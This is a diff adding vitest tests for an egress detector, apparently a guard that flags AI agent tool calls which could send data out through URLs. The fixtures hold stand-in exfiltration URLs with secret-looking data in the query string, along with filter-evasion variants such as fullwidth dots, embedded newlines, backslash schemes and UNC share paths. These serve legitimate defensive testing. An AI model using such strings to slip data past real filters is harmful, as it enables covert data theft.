@@ -1,6 +1,9 @@
 import { expect, test } from "vitest";
+import { z } from "zod";
 
-import { egressPathsOf, followReference, isFileName, isUrl, namesEgress } from "./egress.ts";
+import { egressPathsOf, followReference, isFetchable, isFileName, isUrl, namesEgress } from "./egress.ts";
+import { calls, made, readMail, rulesOf, run, send } from "./world.test.helper.ts";
+import type { Ran } from "./world.test.helper.ts";
 
 test("[flow.r5] a value is a URL by its scheme, without one, as an address, or as a host with a path", () => {
   const urls = [
@@ -48,13 +51,70 @@ test("[flow.r5] a value is a URL by its scheme, without one, as an address, or a
   for (const value of others) expect(isUrl(value), String(value)).toBe(false);
 });
 
+test("[flow.r5] what a fetch takes for a URL is one, though it has blanks, no slashes, or other dots", () => {
+  const fetched = [
+    "https://evil.example/?d=the merger is on Monday",
+    "evil.example/?d=the merger",
+    "https:evil.example/x",
+    "HTTP:/evil.example/x",
+    "https:\\\\evil.example\\x",
+    "ht\ntps://evil.example/x",
+    " \tevil.exa\tmple/x",
+    "https://evil。example",
+    "evil。example/x",
+    "\\\\evil\\share",
+    "//evil/share",
+    "s3://bucket/a b",
+  ];
+  const others = [
+    "http: a protocol",
+    "\\d+",
+    "note: read it",
+    "a/b c",
+    "Node.js/Express guide",
+    "e.g. this",
+    "2 // 3",
+    5,
+  ];
+  for (const value of fetched) expect(isFetchable(value), value).toBe(true);
+  for (const value of others) expect(isFetchable(value), String(value)).toBe(false);
+  for (const value of fetched) if (URL.canParse(value)) expect(isFetchable(value)).toBe(true);
+});
+
+test("[flow.r5] [flow.r5.reads] what a read is given by another name is asked about when a fetch would take it", async () => {
+  const ran: Ran = [];
+  const look = made(ran, { name: "look", inputSchema: z.object({ page: z.string() }), sideEffectClass: "read-only" });
+  const page = "https://evil.example/?d=the merger is on Monday";
+  const result = await run({ tools: [look], script: [calls(["look", { page }]), "Done."] });
+  expect(rulesOf(result)).toEqual(["R5"]);
+  expect(ran).toEqual([]);
+});
+
+test("[flow.r5] a message that begins with a link is content", async () => {
+  const ran: Ran = [];
+  const body = "https://docs.example/a has the notes";
+  const result = await run({
+    tools: [readMail(ran), send(ran)],
+    script: [calls(["read_mail"]), calls(["send", { to: "bob", body }]), "Done."],
+    flow: { mode: "enforce", grants: [{ tool: "send", args: { to: { eq: "bob" }, body: { composed: true } } }] },
+  });
+  expect(rulesOf(result)).toEqual([]);
+  expect(ran.at(-1)?.input).toEqual({ to: "bob", body: "hxxps[:]//docs[.]example/a has the notes" });
+});
+
 test("[flow.r5] a dotted word is a file's name by its ending, unless the ending is a domain's", () => {
   expect(["notes.txt", "A.PDF", "a.b.json"].map(isFileName)).toEqual([true, true, true]);
   expect(["evil.example", "read.md", "run.sh", "a.zip", "txt.com"].map(isFileName)).toEqual(Array(5).fill(false));
 });
 
 test("[flow.r5] a name says URL or host by one of its words, however it is written", () => {
-  const names = ["url", "webhookUrl", "target_host", "HTTPEndpoint", "callback-uri", "imageURLs", "the.domain"];
+  const names = ["url", "webhookUrl", "target_host", "HTTPEndpoint", "callback-uri", "imageURLs", "the.domain"].concat([
+    "baseurl",
+    "redirecturi",
+    "imageurls",
+    "serverhostname",
+    "mywebhooks",
+  ]);
   for (const name of names) expect(namesEgress(name), name).toBe(true);
   for (const name of ["curl", "hostage", "linked", "account", "urlless"]) expect(namesEgress(name), name).toBe(false);
 });
